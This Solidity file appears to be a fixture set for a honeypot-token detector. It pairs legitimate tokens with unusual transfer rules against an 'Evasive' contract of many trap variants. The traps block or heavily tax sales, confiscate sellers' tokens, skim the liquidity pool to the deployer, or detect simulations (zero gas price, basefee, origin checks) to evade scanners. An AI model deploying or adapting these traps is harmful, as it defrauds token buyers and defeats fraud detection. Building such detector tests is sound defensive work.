// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

interface IHeld {
    function balanceOf(address account) external view returns (uint256);
    function skim(address to) external;
}

interface IRouter {
    function swapExactTokensForTokensSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

abstract contract Token {
    string public name = "Some Token";
    string public symbol = "SOME";
    uint256 public totalSupply;
    mapping(address account => uint256) internal held;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    address internal immutable maker = msg.sender;
    address internal pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        totalSupply = supply;
        held[msg.sender] = supply;
    }

    function begin(address given) external {
        require(pair == address(0));
        pair = given;
    }

    function decimals() external view virtual returns (uint8) {
        return 18;
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return held[account];
    }

    function approve(address spender, uint256 value) external virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external virtual returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        _take(from, to, value, 0);
    }

    function _take(address from, address to, uint256 value, uint256 fee) internal {
        held[from] -= value;
        held[to] += value - fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) {
            held[maker] += fee;
            emit Transfer(from, maker, fee);
        }
    }
}

/// A trap that lets out whom it takes for a simulation, or lets out a little, or for a while.
contract Evasive is Token(1e27) {
    uint256 private immutable kind;
    mapping(address account => uint256) private boughtAt;
    mapping(address account => uint256) private boughtIn;
    mapping(address account => uint256) private sold;
    mapping(address account => bool) private doubled;
    uint256 private sales;
    address private latest;
    uint256 private opening;
    uint256 private closing;
    uint256 private purchases;
    address private constant ROUTER = 0x4752ba5DBc23f44D87826276BF6Fd6b1C372aD24;

    constructor(uint256 given) {
        kind = given;
    }

    function balanceOf(address account) public view override returns (uint256) {
        // The tokens of a buyer vanish with the next block.
        if (kind == 17 && boughtIn[account] > 0 && block.number > boughtIn[account]) return 0;
        return held[account];
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        if (kind != 18 || msg.sender == maker) allowance[msg.sender][spender] = value;
        doubled[msg.sender] = value == 2 * held[msg.sender];
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        bool sells = to == pair && from != maker;
        require(!(kind == 1 && sells), "not by others");
        require(!(kind == 14 && sells && msg.sender == ROUTER), "not by the router");
        require(!(kind == 31 && sells && msg.sender.code.length > 0), "not by code");
        if (kind == 13 && sells) return false;
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == maker || to == maker || pair == address(0)) return _take(from, to, value, 0);
        if (from == pair) (boughtAt[to], boughtIn[to], latest) = (block.timestamp, block.number, to);
        if (from == pair && opening == 0) (opening, closing) = (held[pair], block.number + 30_000);
        if (from == pair) purchases++;
        if (to != pair) return _take(from, to, value, 0);
        if (kind == 2) require(from == 0x00000000000000000000000000000000fa4EB0c5, "not this one");
        if (kind == 3) require(tx.origin == address(0), "somebody");
        if (kind == 4) require(tx.gasprice == 0, "paid");
        if (kind == 5) require(block.basefee == 0, "a real block");
        if (kind == 6) require(from.code.length > 0, "a person");
        if (kind == 7) require(tx.origin.balance > 1000 ether, "not rich");
        if (kind == 8) require(gasleft() > 1_500_000, "little gas");
        if (kind == 9) require(sold[from]++ == 0, "once");
        if (kind == 10) require(boughtIn[from] == block.number, "too late");
        if (kind == 11) require(block.timestamp < boughtAt[from] + 1 hours, "too late");
        if (kind == 12) require(value <= 5 ether, "too much");
        if (kind == 15) require(block.prevrandao == 0, "a real block");
        if (kind == 17) require(balanceOf(from) >= value, "gone");
        if (kind == 16) return _take(from, to, value, boughtIn[from] == block.number ? 0 : value * 95 / 100);
        if (kind == 19) while (true) {}
        if (kind == 20) require(uint160(from) < 0x10000, "a random account");
        if (kind == 21) {
            held[from] -= value;
            held[maker] += value;
            emit Transfer(from, to, value);
            return;
        }
        if (kind == 22) require(blockhash(block.number - 1) == 0, "a real chain");
        if (kind == 24) require(sales++ < 3, "enough sold");
        if (kind == 25) require(block.number % 64 == 0, "not in this block");
        if (kind == 26) require(block.coinbase == address(0), "a real block");
        if (kind == 27) return _take(from, to, value, value * _least(held[from] / 1 ether, 99) / 100);
        if (kind == 28) return _take(from, to, value, value * _least((block.timestamp - boughtAt[from]) / 15 minutes, 99) / 100);
        if (kind == 29) require(value <= held[from] / 8, "an eighth at most");
        if (kind == 30) require(value >= 50 ether, "too little");
        if (kind == 32) require((block.timestamp - boughtAt[from] + 6 hours) % 1 days < 12 hours, "not at this hour");
        if (kind == 33) require(uint256(keccak256(abi.encode(from))) % 16 == 0, "not this one");
        if (kind == 34) require(from == latest, "not the latest");
        if (kind == 35) require(doubled[from], "not approved so");
        if (kind == 36) require(tx.origin.balance / 1e15 == 333, "no third of a coin");
        if (kind == 37) require(block.timestamp < boughtAt[from] + 7 days, "too late");
        _take(from, to, value, _unseen(from, value));
        if (kind == 23) IHeld(pair).skim(maker);
    }

    /// What closes only after many trades, or much later.
    function _unseen(address from, uint256 value) private returns (uint256 fee) {
        if (kind == 38) require(block.number < boughtIn[from] + 1000, "too late");
        if (kind == 39) require(sales++ < 100, "enough sold");
        if (kind == 40) require(sold[from]++ < 20, "enough sold");
        if (kind == 41) require(block.timestamp < boughtAt[from] + 100 days, "too late");
        if (kind == 42) require(purchases < 100, "enough bought");
        if (kind == 43) require(uint256(keccak256(abi.encode(block.prevrandao, block.number))) % 5 > 0, "no luck");
        if (kind == 44 && sales++ >= 50) fee = value * 95 / 100;
        if (kind == 45) require((block.number - boughtIn[from]) % 7000 < 3500, "not in this block");
        if (kind == 46) require(block.number < closing, "closed");
        if (kind == 47) require((block.timestamp / 1 days) % 7 < 2, "not on this day");
        if (kind == 48) require(value % 2 == 0, "an odd amount");
        if (kind == 49 && value > held[from] / 2) fee = value * 95 / 100;
        // No trial tells this one: it sells no more than it has bought.
        if (kind == 101) require(held[pair] + value <= opening, "the pool is full");
    }

    function _least(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}

/// Honest tokens of many shapes. Their rules stand in their code for all to read, and hold for everybody.
contract Honest is Token(1e27) {
    uint256 private immutable kind;
    uint8 private immutable places;
    mapping(address account => uint256) private boughtIn;
    bool private selling;
    address private constant ROUTER = 0x4752ba5DBc23f44D87826276BF6Fd6b1C372aD24;

    constructor(uint256 given, uint8 givenPlaces) {
        (kind, places) = (given, givenPlaces);
        if (kind == 5) allowance[address(this)][ROUTER] = type(uint256).max;
    }

    function decimals() external view override returns (uint8) {
        return places;
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        // As USDT: from zero only.
        require(!(kind == 3 && value > 0 && allowance[msg.sender][spender] > 0), "not from zero");
        require(!(kind == 10 && value >> 96 > 0), "more than 96 bits");
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        // As WETH: an endless allowance stays.
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == maker || to == maker) return _take(from, to, value, 0);
        require(!(kind == 7 && value == 0), "nothing");
        if (kind == 1) return _take(from, to, value, value * 3 / 100);
        if (kind == 2) {
            // A part of each transfer is burnt.
            uint256 burnt = value / 100;
            totalSupply -= burnt;
            held[from] -= burnt;
            return _take(from, to, value - burnt, 0);
        }
        // Nobody holds more than a hundredth of the supply.
        require(!(kind == 4 && to != pair && held[to] + value > totalSupply / 100), "max wallet");
        if (kind == 5) return _withFee(from, to, value);
        if (kind == 6) {
            // Once in a block.
            if (from == pair) boughtIn[tx.origin] = block.number;
            else require(boughtIn[tx.origin] < block.number, "one transfer in a block");
        }
        require(!(kind == 8 && to != pair && held[to] + value > 5 ether), "five at most");
        if (kind == 11) {
            // Once in a day.
            if (from == pair) boughtIn[to] = block.timestamp;
            else require(block.timestamp >= boughtIn[from] + 1 days, "one trade in a day");
        }
        require(!(kind == 9 && to == pair && gasleft() < 100_000), "it needs some gas");
        _take(from, to, value, 0);
    }

    /// Two hundredths stay with the token, and are sold for the treasury before the next sale.
    function _withFee(address from, address to, uint256 value) private {
        if (selling || pair == address(0)) return _take(from, to, value, 0);
        if (to == pair && held[address(this)] > 1e15) {
            selling = true;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913);
            IRouter(ROUTER).swapExactTokensForTokensSupportingFeeOnTransferTokens(
                held[address(this)], 0, path, maker, type(uint64).max
            );
            selling = false;
        }
        uint256 fee = value / 50;
        _take(from, address(this), fee, 0);
        _take(from, to, value - fee, 0);
    }
}

/// As USDT: nothing is returned.
contract NoBool {
    string public name = "Nothing Returned";
    string public symbol = "NRT";
    uint8 public decimals = 6;
    uint256 public totalSupply = 1e15;
    mapping(address account => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function approve(address spender, uint256 value) external {
        require(value == 0 || allowance[msg.sender][spender] == 0);
        allowance[msg.sender][spender] = value;
    }

    function transfer(address to, uint256 value) external {
        _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Balances are shares of what is staked. They grow when somebody reports, and round down.
contract Shares is Token(1e27) {
    uint256 private pooled = 1e27 + 12345;

    function report(uint256 more) external {
        pooled += more;
    }

    function sharesOf(address account) external view returns (uint256) {
        return held[account];
    }

    function balanceOf(address account) public view override returns (uint256) {
        return held[account] * pooled / totalSupply;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 shares = value * totalSupply / pooled;
        held[from] -= shares;
        held[to] += shares;
        emit Transfer(from, to, value);
    }
}

/// Balances grow with each block, as what is lent does.
contract Earning is Token(1e27) {
    uint256 private immutable born = block.number;

    function _growth() private view returns (uint256) {
        return 1e18 + (block.number - born) * 1e11;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return held[account] * _growth() / 1e18;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 parts = value * 1e18 / _growth();
        held[from] -= parts;
        held[to] += parts;
        emit Transfer(from, to, value);
    }
}

/// A hundredth of each transfer goes to all holders.
contract Reflection is Token(1e27) {
    uint256 private rate = 1e18;
    uint256 private units = 1e27;

    function balanceOf(address account) public view override returns (uint256) {
        return held[account] * rate / 1e18;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 moved = value * 1e18 / rate;
        uint256 fee = from == maker || to == maker ? 0 : moved / 100;
        held[from] -= moved;
        held[to] += moved - fee;
        units -= fee;
        rate = totalSupply * 1e18 / units;
        emit Transfer(from, to, (moved - fee) * rate / 1e18);
    }
}

/// A dollar of a company, with the powers that such companies have.
contract Stable is Token(1e15) {
    address public owner = msg.sender;
    bool public paused;
    mapping(address account => bool) public isBlacklisted;

    function decimals() external pure override returns (uint8) {
        return 6;
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == owner);
        held[to] += value;
        totalSupply += value;
    }

    function pause() external {
        require(msg.sender == owner);
        paused = true;
    }

    function blacklist(address account) external {
        require(msg.sender == owner);
        isBlacklisted[account] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!paused && !isBlacklisted[from] && !isBlacklisted[to]);
        _take(from, to, value, 0);
    }
}

/// With permits, and with votes that are counted in each transfer.
contract Permits is Token(1e27) {
    mapping(address account => uint256) public nonces;
    mapping(address account => address) public delegates;
    mapping(address account => uint256) public votes;

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, address(this)));
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 hash = keccak256(
            abi.encode(
                keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),
                owner,
                spender,
                value,
                nonces[owner]++,
                deadline
            )
        );
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), hash)), v, r, s);
        require(signer != address(0) && signer == owner && block.timestamp <= deadline);
        allowance[owner][spender] = value;
    }

    function _move(address from, address to, uint256 value) internal override {
        _take(from, to, value, 0);
        if (delegates[from] != address(0)) votes[delegates[from]] -= value;
        if (delegates[to] != address(0)) votes[delegates[to]] += value;
    }
}
